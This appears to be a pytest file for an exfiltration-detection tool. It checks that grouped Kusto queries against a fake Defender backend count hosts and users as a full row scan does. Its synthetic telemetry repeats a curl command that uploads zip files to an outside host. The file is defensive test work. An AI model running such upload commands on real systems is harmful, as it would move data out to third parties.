"""Hosts and users are counted in groups where Kusto has them: what is said is what all rows say."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from exfilwatch.siem.registry import open_siem
from exfilwatch_playbooks.enrichment.enrichers import prevalence
from exfilwatch_playbooks.enrichment.history import Paths

from .made import NOW
from .test_counting import HOST, Counted, said, when

pytest.importorskip("duckdb", reason="DuckDB runs the fake's queries: pip install 'duckdb-kql[duckdb]'")
from ..siem.fake_microsoft import FakeMicrosoft  # noqa: TID252 (tests are no package on the path)

MANY = 600


def hunted(time: datetime, number: int, host: str, user: str, **columns: object) -> dict[str, Any]:
    stamp = f"{time.astimezone(UTC):%Y-%m-%dT%H:%M:%S.%f}0Z"
    device = {"Timestamp": stamp, "DeviceId": host, "DeviceName": host, "ReportId": number}
    return {**device, "AccountName": user, "AccountDomain": "CORP", "InitiatingProcessFileName": "cmd.exe", **columns}


def started(at: int, *, line: str, host: str = "") -> dict[str, Any]:
    process = {"FileName": "curl.exe", "FolderPath": r"C:\Windows\System32\curl.exe", "ProcessCommandLine": line}
    return hunted(when(at), at, host or f"ws{at % 7}", f"u{at % 4}", ActionType="ProcessCreated", **process)


def connected(at: int) -> dict[str, Any]:
    user = {"InitiatingProcessAccountName": f"u{at % 3}", "InitiatingProcessAccountDomain": "CORP"}
    way = {"RemoteUrl": HOST, "RemoteIP": "8.8.4.4", "RemotePort": 443, "LocalIP": f"10.0.0.{at % 5}", "LocalPort": at}
    return hunted(when(at), at, f"srv{at % 5}", "", ActionType="ConnectionSuccess", Protocol="Tcp", **user, **way)


def a_script() -> dict[str, list[dict[str, Any]]]:
    """Some hosts and users, again and again."""
    old = [started(-2_500, line="notepad.exe a.txt", host="old")]
    lines = (f"curl -T C:\\x\\p{at % 2}.zip https://{HOST}/in" for at in range(MANY))
    made = [started(at, line=line) for at, line in enumerate(lines)]
    return {"DeviceProcessEvents": [*old, *made], "DeviceNetworkEvents": [connected(at) for at in range(MANY)]}


def unlike() -> dict[str, list[dict[str, Any]]]:
    """No two with the same command."""
    lines = (f"curl -T C:\\x\\p{at}.zip https://{HOST}/in" for at in range(MANY))
    return {"DeviceProcessEvents": [started(at, line=line) for at, line in enumerate(lines)]}


@pytest.mark.parametrize(("tables", "part"), [(a_script, 0.25), (unlike, 2.1)], ids=["a script", "unlike"])
def test_groups_say_what_all_rows_say(tmp_path: Path, monkeypatch, tables, part):
    file = tmp_path / "a.jsonl"
    file.write_text("".join(json.dumps(row) + "\n" for rows in tables().values() for row in rows))
    expected = said(Paths((str(file),)))
    with FakeMicrosoft() as fake:
        fake.now = (NOW + timedelta(days=1)).timestamp()
        for table, rows in tables().items():
            for row in rows:
                fake.kusto.add(table, row)
        given = {name: value for name, value in fake.settings().items() if name != "workspace"}
        settings = {"kind": "defender", **given, "tables": list(tables())}
        siem = open_siem("xdr", settings)
        grouped = Counted(siem)
        assert said(siem) == expected
        assert any("summarize arg_min(Timestamp, *)" in query["Query"] for query in fake.queries)
        monkeypatch.setattr(prevalence, "_TAKEN", ())
        siem = open_siem("xdr", settings)
        every = Counted(siem)
        assert said(siem) == expected
    assert every.records >= MANY
    assert grouped.records < part * every.records
